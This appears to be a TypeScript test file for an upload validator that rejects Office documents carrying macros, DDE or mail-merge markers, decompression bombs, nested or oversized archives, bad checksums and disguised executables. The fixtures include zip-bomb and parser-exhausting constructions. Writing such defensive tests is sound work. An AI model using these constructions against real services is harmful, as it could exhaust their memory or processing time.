    expect(await codeOf(docxWith(part(name, content)), docxType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it('is not taken of a document that merges a page or a rich text into itself', async () => {
    for (const type of ['text/html', 'application/rtf', 'message/rfc822'])
      expect(await codeOf(archive([part('[Content_Types].xml', types(`<Default Extension="a" ContentType="${type}"/>`))]), docxType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it.each([
    ['data that are fetched when one asks for them', 'xl/connections.xml', `<connections ${s}><connection id="1" name="Query" type="5" refreshedVersion="8" background="1" interval="0"><dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=A" command="SELECT * FROM [A]"/></connection></connections>`],
    ['a query of Power Query', 'customXml/item2.xml', Buffer.from('\ufeff<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>', 'utf16le')],
    ['a pivot of its own cells', 'xl/pivotCache/a.xml', `<pivotCacheDefinition ${s} refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>`],
    ['addresses of a letter on the disk', 'word/_rels/settings.xml.rels', relationshipsOf(['mailMergeSource', 'file:///D:\\Danh%20sach.xlsx', true])],
    ['a field of a form', 'word/activeX/activeX1.xml', '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D10-EC42-11CE-9E0D-00AA006002F3}"/>'],
    ['a drawing', 'word/media/image1.svg', '<svg xmlns="http://www.w3.org/2000/svg" font-size="9"><path d="M0 0"/><a href="https://example.vn"/></svg>'],
    ['data of another program that look like it', 'customXml/item3.xml', '<root><f>a|b<g/></f><instrText>DDE</instrText><connection interval="5"/></root>'],
    ['a font that begins like XML', 'word/fonts/font1.odttf', Buffer.concat([Buffer.from('<abc'), Buffer.alloc(500, '\0<!')])],
    ['a property', 'docProps/custom.xml', '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"><property name="Assembly"/></Properties>'],
  ])('is known of a table or a text with %s', async (_what, name, content) => {
    expect(await codeOf(docxWith(part(name, content)), docxType)).toBeNull();
  }); // prettier-ignore

  it('is looked for under names in either case', async () => {
    const macros = types('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>');
    const lower = archive([part('[content_types].xml', macros), part('word/document.xml')]);
    expect(await codeOf(lower, docxType)).toBe('file-type-not-allowed');
    expect(await codeOf(docxWith(part('word/embeddings/a.docx', lower)), docxType)).toBe('file-type-not-allowed');
    expect(await codeOf(libreOfficeDocument(odtType, undefined, part('[CONTENT_TYPES].XML', macros)), odtType)).toBe('file-type-not-allowed');
    const far = archive([part('[Content_Types].xml', types(`${' '.repeat(3_000_000)}<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>`))]);
    expect(await codeOf(far, docxType)).toBe('file-type-not-allowed');
    const related = docxWith(part('word/_rels/document.xml.rels', relationshipsOf(['http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.bin'])));
    expect(await codeOf(related, docxType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it('is not taken with macros in a compound file that is moved by a byte, or wrapped', async () => {
    const project = ole('_VBA_PROJECT');
    const wrapped = [Buffer.concat([Buffer.from('x'), project]), Buffer.concat([ole('Ole10Native'), Buffer.alloc(70_000), project]), Buffer.concat([ole('Package'), docxWith(part('word/vbaProject.bin'))]), Buffer.from('ActiveMime…')]; // prettier-ignore
    for (const content of wrapped)
      for (const deflated of [true, false])
        expect(await codeOf(docxWith({ ...part('word/a.bin', content), deflated }), docxType)).toBe('file-type-not-allowed');
    expect(await codeOf(docxWith(part('word/a.bin', Buffer.concat([Buffer.from('x'), docx('x')]))), docxType)).toBe('file-type-mismatch');
  });

  it('is not read at any length from one tag', async () => {
    const tag = (attributes: number): Buffer =>
      libreOfficeDocument(odtType, openDocumentContent(undefined, `<a ${' href="x"'.repeat(attributes)}/>`));
    expect(await codeOf(tag(1_000), odtType)).toBeNull();
    // Made of each attribute a copy of all before it, these would take minutes.
    expect(await codeOf(tag(100_000), odtType)).toBe('file-type-mismatch');
  });

  it('is read in one pass, however it is written', async () => {
    const tag = (bytes: number): Buffer => docxWith(header(`<w:a b="${'>'.repeat(bytes)}"/>`), part('a', Buffer.alloc(200_000, 'x')));
    // A program may keep a drawing in a value.
    expect(await codeOf(tag(3_000_000), docxType)).toBeNull();
    expect(await codeOf(tag(5_000_000), docxType)).toBe('file-type-mismatch');
    expect(await codeOf(docxWith(header('<w:a>'.repeat(80_000))), docxType)).toBe('file-type-mismatch');
    const runs = turn('begin') + said('x').repeat(100_000) + turn('end');
    expect(await codeOf(docxWith(header(runs)), docxType)).toBeNull();
    const within = turn('begin') + (said('IF ') + field(' PAGE ')).repeat(20_000) + turn('end');
    expect(await codeOf(docxWith(header(within)), docxType)).toBeNull();
    const open = `${"'[{".repeat(20_000)}|`;
    expect(await codeOf(spreadsheet(...Array.from({ length: 20 }, (_, index) => ({ ...sheet(open), name: `xl/${String(index)}.xml` }))), xlsxType)).toBe('file-type-not-allowed');
  }); // prettier-ignore

  it('is not believed of an archive with a checksum that is wrong, wherever it stands', async () => {
    for (const checksum of [{ said: 1 }, { listed: 1 }, { said: 1, listed: 1 }])
      for (const how of [{}, { deflated: true }, { described: true }, { deflated: true, described: true }])
        expect(await codeOf(docxWith({ ...part('word/a.xml', 'nội dung'), ...how, checksum }), docxType)).toBe('file-type-mismatch');
  });

  it('is looked for off the event loop', async () => {
    const large = docxWith({ name: 'a', content: Buffer.alloc(100_000_000, 'một hai ba bốn năm '), deflated: true });
    const text = Buffer.from('một dòng\n'.repeat(1_500_000));
    let turns = 0;
    const turning = setInterval(() => turns++, 5);
    await codeOf(large, docxType);
    await codeOf(text, 'text/plain');
    clearInterval(turning);
    // How long each takes is for the bench; here the others get many turns.
    expect(turns).toBeGreaterThan(5);
  });

  it('is not taken where it would fill the memory of whoever opens it', async () => {
    expect(await codeOf(docx('x', 300 * 1024 * 1024), docxType)).toBe('file-type-not-allowed');
    const loose = docxWith({ name: 'a', content: Buffer.alloc(50_000_000), deflated: true });
    expect(await codeOf(loose, docxType)).toBe('file-type-not-allowed');
    const nested = docxWith(part('a.docx', docxWith(part('b.docx', docxWith(part('c.docx', docxWith()))))));
    expect(await codeOf(nested, docxType)).toBe('file-type-not-allowed');
    const many = Object.fromEntries(Array.from({ length: 10_001 }, (_, index) => [`word/${String(index)}`, '']));
    const first = { '[Content_Types].xml': `<Override ContentType="${docxType}.main+xml"/>` };
    expect(await codeOf(zip({ ...first, ...many }), docxType)).toBe('file-type-not-allowed');
    // Also where no archive inside has too many alone.
    const some = archive(Array.from({ length: 4_000 }, (_, index) => ({ ...part(String(index), ''), deflated: true })));
    const beside = ['a', 'b', 'c'].map((name) => ({ ...part(`word/embeddings/${name}.docx`, some), deflated: true }));
    expect(await codeOf(docxWith(...beside), docxType)).toBe('file-type-not-allowed');
  });

  it('is known whatever the order of its parts', async () => {
    const loose = { ...part('word/a.xml', Buffer.alloc(20_000_000, ' ')), deflated: true };
    const dense = part('word/media/image1.jpeg', Buffer.alloc(150_000, 'x'));
    expect(await codeOf(docxWith(dense, loose), docxType)).toBeNull();
    expect(await codeOf(docxWith(loose, dense), docxType)).toBeNull();
  });

  it('is one of few, and that of the name', () => {
    expect(declaredType('Text/CSV; charset=utf-8', 'a.CSV')).toBe('text/csv');
    expect(declaredType('image/jpeg', 'a.jpeg')).toBe('image/jpeg');
    const coded = (type: string | undefined, name: string): string => {
      try {
        return declaredType(type, name);
      } catch (error) {
        return error instanceof FileRefused ? error.code : String(error);
      }
    };
    expect(coded('text/html', 'a.html')).toBe('file-type-not-allowed');
    expect(coded('image/svg+xml', 'a.svg')).toBe('file-type-not-allowed');
    expect(coded('constructor', 'a.pdf')).toBe('file-type-not-allowed');
    expect(coded(undefined, 'a.pdf')).toBe('file-type-not-allowed');
    expect(coded('application/pdf', 'a.pdf.exe')).toBe('file-type-mismatch');
    expect(coded('application/pdf', 'pdf')).toBe('file-type-mismatch');
    expect([typeByName('Tờ trình.DOCX'), typeByName('a.exe'), typeByName('pdf')]).toEqual([docxType, null, null]);
  });
});
